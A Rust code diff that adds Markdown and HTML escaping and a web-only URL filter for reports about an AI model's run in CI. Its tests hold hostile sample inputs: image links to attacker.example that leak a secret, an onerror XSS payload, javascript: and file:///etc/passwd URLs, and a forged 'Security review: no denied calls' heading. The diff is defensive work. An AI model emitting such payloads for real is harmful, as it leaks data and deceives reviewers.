@@ -1,5 +1,7 @@
-//! Text that came from the model or a tool, made inert where tollgate writes it: on a log line
-//! the GitHub Actions runner scans for workflow commands, and in XML and JSON reports. Pure.
+//! Text that came from the model, a tool, a repository or a forge, made inert where tollgate
+//! writes it: on a log line the GitHub Actions runner scans for workflow commands, in XML and
+//! JSON reports, and in the Markdown and HTML reports a person reads (the step summary, a
+//! batch's `summary.md` and `report.html`). Every such writer goes through here. Pure.
 //!
 //! The runner (actions/runner `ActionCommand.cs`) splits output at CR, LF and CRLF, then takes
 //! a line as a command when, after `TrimStart()` (any Unicode white space), it starts with `::`,
@@ -154,6 +156,124 @@ fn starts_like_a_command(line: &str) -> bool {
     ascii.next() == Some(':') && ascii.next() == Some(':')
 }
 
+/// Characters through which Markdown (CommonMark, GitHub's extensions) would make something
+/// of its own, written with a backslash so they show as themselves: code, links and images,
+/// headings, tables, math and mentions. `<`, `>` and `&` become entities instead, which also
+/// keeps them inert inside the HTML blocks a summary wraps text in. Emphasis is left alone:
+/// it changes how text looks, not what the page holds.
+fn markdown_char(c: char, out: &mut String) {
+    match c {
+        '\\' | '`' | '[' | ']' | '#' | '!' | '|' | '@' | '$' => {
+            out.push('\\');
+            out.push(c);
+        }
+        '<' => out.push_str("&lt;"),
+        '>' => out.push_str("&gt;"),
+        '&' => out.push_str("&amp;"),
+        c => out.push(visible_char(c)),
+    }
+}
+
+/// Someone else's text inside a Markdown table cell, a heading or a list item: one line
+/// (every line break shown as `⏎`), nothing in it that Markdown or HTML would act on, so it
+/// can neither end the cell nor start a heading, a comment, an image or a link.
+pub fn markdown_inline(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        markdown_char(c, &mut out);
+    }
+    out
+}
+
+/// Someone else's text as inline code in a table cell, which shows it as it is; text that
+/// would end or break a code span (a backtick, a backslash before a pipe) is written as
+/// [`markdown_inline`] instead.
+pub fn markdown_code(text: &str) -> String {
+    if text.contains('`') || text.contains('\\') {
+        return markdown_inline(text);
+    }
+    let code: String = text
+        .chars()
+        .map(|c| match c {
+            '|' => "\\|".to_string(),
+            c => visible_char(c).to_string(),
+        })
+        .collect();
+    // A code span trims one space from each side; an empty one is not a code span at all.
+    if code.trim().is_empty() {
+        return markdown_inline(text);
+    }
+    format!("`{code}`")
+}
+
+/// Someone else's text of several lines (the model's final message, its todo list) as
+/// Markdown that renders as that text: its lines and blank lines are kept, every character
+/// Markdown or HTML acts on is escaped, and a line that would underline a heading or draw a
+/// rule is escaped too. No image, link, raw HTML, heading, table or code block comes out.
+pub fn markdown_text(text: &str) -> String {
+    let lines: Vec<&str> = text
+        .split(['\n', '\u{85}', '\u{2028}', '\u{2029}'])
+        .collect();
+    let mut out = String::with_capacity(text.len() + 16);
+    for (index, line) in lines.iter().enumerate() {
+        let line = line.trim_end_matches('\r');
+        if is_underline(line) {
+            out.push('\\');
+        }
+        for c in line.chars() {
+            markdown_char(c, &mut out);
+        }
+        let next_has_text = lines
+            .get(index + 1)
+            .is_some_and(|next| !next.trim().is_empty());
+        // A hard break: lines of the text stay lines instead of joining into one paragraph.
+        if !line.trim().is_empty() && next_has_text {
+            out.push('\\');
+        }
+        if index + 1 < lines.len() {
+            out.push('\n');
+        }
+    }
+    out
+}
+
+/// A line of only `-` or `=` (and spaces) turns the paragraph above it into a heading, or
+/// draws a rule.
+fn is_underline(line: &str) -> bool {
+    let trimmed = line.trim();
+    !trimmed.is_empty() && trimmed.chars().all(|c| matches!(c, '-' | '=' | ' ' | '\t'))
+}
+
+/// Someone else's text as HTML element content or a quoted attribute value.
+pub fn html_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c if c.is_control() && !matches!(c, '\n' | '\t') => out.push(REPLACED),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// The address to link to when `text` is an absolute `http:` or `https:` URL with a host,
+/// as the URL standard parses it; anything else (`javascript:`, `data:`, a relative path,
+/// white space a browser would strip) is no link and is shown as text.
+pub fn http_url(text: &str) -> Option<String> {
+    if text.is_empty() || text.chars().any(|c| c.is_whitespace() || c.is_control()) {
+        return None;
+    }
+    let url = reqwest::Url::parse(text).ok()?;
+    let web =
+        matches!(url.scheme(), "http" | "https") && url.host_str().is_some_and(|h| !h.is_empty());
+    web.then(|| url.to_string())
+}
+
 #[cfg(test)]
 mod tests {
     use pretty_assertions::assert_eq;
@@ -218,5 +338,63 @@ mod tests {
         let mut value = serde_json::json!({"k\u{1}": ["x\u{ffff}", {"y": "\u{fffe}z"}], "n": 1});
         clean_json_strings(&mut value);
         assert_eq!(value, serde_json::json!({"k": ["x", {"y": "z"}], "n": 1}));
+    }
+    #[test]
+    fn markdown_cells_cannot_end_the_cell_or_start_anything() {
+        let tool = "Bash |\n\n## ✅ Security review: no denied calls\n\n<!--";
+        let cell = markdown_inline(tool);
+        assert_eq!(
+            cell,
+            "Bash \\|⏎⏎\\#\\# ✅ Security review: no denied calls⏎⏎&lt;\\!--"
+        );
+        assert_eq!(
+            markdown_inline("![](https://attacker.example/p.png?d=x) [a](javascript:x) a\\|b"),
+            "\\!\\[\\](https://attacker.example/p.png?d=x) \\[a\\](javascript:x) a\\\\\\|b"
+        );
+        assert_eq!(markdown_code("rm -rf a|b"), "`rm -rf a\\|b`");
+        assert_eq!(markdown_code("a\\|b"), "a\\\\\\|b");
+        assert_eq!(markdown_code("x`y"), "x\\`y");
+        assert_eq!(markdown_code(" "), " ");
+        assert_eq!(markdown_code("<!--\nx"), "`<!--⏎x`");
+    }
+
+    #[test]
+    fn markdown_text_keeps_lines_and_shows_markup_as_text() {
+        let message = "Done.\n![](https://attacker.example/p.png?d=s3cret)\n<img src=x onerror=alert(1)>\n\nTitle\n===\n</details>\n## fake";
+        assert_eq!(
+            markdown_text(message),
+            "Done.\\\n\\!\\[\\](https://attacker.example/p.png?d=s3cret)\\\n&lt;img src=x onerror=alert(1)&gt;\n\nTitle\\\n\\===\\\n&lt;/details&gt;\\\n\\#\\# fake"
+        );
+    }
+
+    #[test]
+    fn html_links_only_to_the_web() {
+        assert_eq!(
+            html_text("<a href='x'>&\""),
+            "&lt;a href=&#39;x&#39;&gt;&amp;&quot;"
+        );
+        assert_eq!(
+            http_url("https://github.com/o/r/pull/1").as_deref(),
+            Some("https://github.com/o/r/pull/1")
+        );
+        assert_eq!(
+            http_url("HTTP://Example.org").as_deref(),
+            Some("http://example.org/")
+        );
+        for bad in [
+            "javascript:alert(1)",
+            "JavaScript:alert(1)",
+            " javascript:alert(1)",
+            "java\tscript:alert(1)",
+            "data:text/html,<script>alert(1)</script>",
+            "vbscript:x",
+            "/relative",
+            "//evil.example/x",
+            "https:",
+            "file:///etc/passwd",
+            "",
+        ] {
+            assert_eq!(http_url(bad), None, "{bad:?}");
+        }
     }
 }
